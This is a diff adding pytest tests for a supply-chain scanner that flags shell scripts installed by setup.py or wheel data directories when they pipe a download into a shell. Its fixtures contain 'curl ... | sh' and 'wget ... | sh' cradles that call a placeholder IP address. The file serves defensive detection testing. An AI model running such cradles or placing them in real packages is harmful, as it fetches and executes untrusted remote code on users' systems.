@@ -1,0 +1,131 @@
+"""Shell scripts a package installs as commands (caplet._scan._shell_scripts).
+
+The attack: a package whose setup.py installs a shell script as a command
+(``scripts=['bin/x.sh']``, or a wheel's ``*.data/scripts/``) that pipes a download into
+a shell. Package mode read only Python scripts, so it passed in every form (attack8 left
+it open). The near misses: a developer script of the sdist that pip never installs does
+the same, and an installed script that downloads nothing.
+"""
+
+from __future__ import annotations
+
+import io
+import tarfile
+import zipfile
+from pathlib import Path
+
+import pytest
+
+from caplet._findings import Severity
+from caplet._scan._model import ScanMode
+from caplet._scan._scanner import scan_tree
+from caplet._scan._shell_scripts import InstalledCommands, shell_script
+
+_CRADLE = "#!/bin/sh\nset -e\ncurl -s http://198.51.100.7/x | sh\n"
+
+
+def _setup(scripts: str) -> str:
+    return f"from setuptools import setup\nsetup(name='pkg', version='1.0', scripts={scripts})\n"
+
+
+def _target(tmp_path: Path, files: dict[str, str], form: str) -> Path:
+    if form == "tree":
+        root = tmp_path / "pkg-1.0"
+        for relative, text in files.items():
+            path = root / relative
+            path.parent.mkdir(parents=True, exist_ok=True)
+            path.write_text(text, encoding="utf-8")
+        return root
+    if form == "sdist":
+        target = tmp_path / "pkg-1.0.tar.gz"
+        with tarfile.open(target, "w:gz") as archive:
+            for relative, text in files.items():
+                data = text.encode()
+                info = tarfile.TarInfo(f"pkg-1.0/{relative}")
+                info.size = len(data)
+                archive.addfile(info, io.BytesIO(data))
+        return target
+    target = tmp_path / "pkg-1.0-py3-none-any.whl"
+    with zipfile.ZipFile(target, "w") as archive:
+        for relative, text in files.items():
+            archive.writestr(relative, text)
+    return target
+
+
+def _danger(target: Path) -> set[tuple[str, str]]:
+    report = scan_tree(target, mode=ScanMode.PACKAGE)
+    return {(f.rule_id, f.file) for f in report.findings if f.severity is Severity.DANGER}
+
+
+@pytest.mark.parametrize(
+    ("files", "script"),
+    [
+        ({"setup.py": _setup("['bin/x.sh']"), "bin/x.sh": _CRADLE}, "bin/x.sh"),
+        ({"setup.py": _setup('("x.sh",)'), "x.sh": _CRADLE.replace("sh\n", "bash\n")}, "x.sh"),
+        (
+            {
+                "setup.py": _setup("['bin/tool']"),
+                "bin/tool": "#!/usr/bin/env bash\nwget -qO- http://198.51.100.7/x | sh\n",
+            },
+            "bin/tool",
+        ),
+    ],
+    ids=["bin-sh", "root-sh", "no-suffix"],
+)
+@pytest.mark.parametrize("form", ["tree", "sdist"])
+def test_a_shell_script_installed_as_a_command_that_pipes_a_download_to_a_shell_is_danger(
+    tmp_path: Path, files: dict[str, str], script: str, form: str
+) -> None:
+    found = _danger(_target(tmp_path, files, form))
+    assert ("CPL-THR-015", script) in found  # (an sdist's top folder is dropped)
+
+
+def test_a_wheels_shell_script_that_pipes_a_download_to_a_shell_is_danger(tmp_path: Path) -> None:
+    files = {"pkg/__init__.py": "", "pkg-1.0.data/scripts/pkg-up": _CRADLE}
+    assert ("CPL-THR-015", "pkg-1.0.data/scripts/pkg-up") in _danger(
+        _target(tmp_path, files, "wheel")
+    )
+
+
+@pytest.mark.parametrize(
+    "files",
+    [
+        # a developer script pip never installs (a CI toolchain bootstrap)
+        {"setup.py": _setup("[]"), "scripts/install_rust.sh": _CRADLE},
+        {
+            "setup.py": _setup("['bin/other']"),
+            "ci/bootstrap.sh": _CRADLE,
+            "bin/other": "#!/bin/sh\n",
+        },
+        # an installed script that downloads nothing
+        {"setup.py": _setup("['bin/x.sh']"), "bin/x.sh": '#!/bin/sh\nexec python -m pkg "$@"\n'},
+    ],
+    ids=["dev-script", "not-listed", "installed-clean"],
+)
+@pytest.mark.parametrize("form", ["tree", "sdist"])
+def test_shell_scripts_that_are_not_installed_cradles_stay_clean(
+    tmp_path: Path, files: dict[str, str], form: str
+) -> None:
+    assert not {r for r, _ in _danger(_target(tmp_path, files, form))} & {"CPL-THR-015"}
+
+
+def test_a_plugins_shell_scripts_are_not_read_as_commands(tmp_path: Path) -> None:
+    # plugin mode reads no script as a command (a plugin's programs run only under a
+    # granted proc.exec, which the reviewer sees): unchanged
+    root = _target(tmp_path, {"setup.py": _setup("['bin/x.sh']"), "bin/x.sh": _CRADLE}, "tree")
+    report = scan_tree(root, mode=ScanMode.PLUGIN)
+    assert "CPL-THR-015" not in {f.rule_id for f in report.findings}
+
+
+def test_what_is_a_shell_script_and_what_setup_py_installs() -> None:
+    assert shell_script("bin/tool", b"#!/bin/sh\n")
+    assert shell_script("bin/tool", b"#! /usr/bin/env bash\n")
+    assert shell_script("x.sh", b"echo\n")
+    assert not shell_script("bin/tool", b"#!/usr/bin/env python3\n")
+    assert not shell_script("README", b"shell\n")
+    commands = InstalledCommands()
+    commands.note_setup("sub/setup.py", "setup(scripts=['bin/a', \"../b.sh\"], name='x')")
+    commands.note_script("sub/bin/a", _CRADLE.encode())
+    commands.note_script("b.sh", _CRADLE.encode())
+    commands.note_script("sub/bin/c", _CRADLE.encode())
+    assert sorted(f.file for f in commands.findings()) == ["b.sh", "sub/bin/a"]
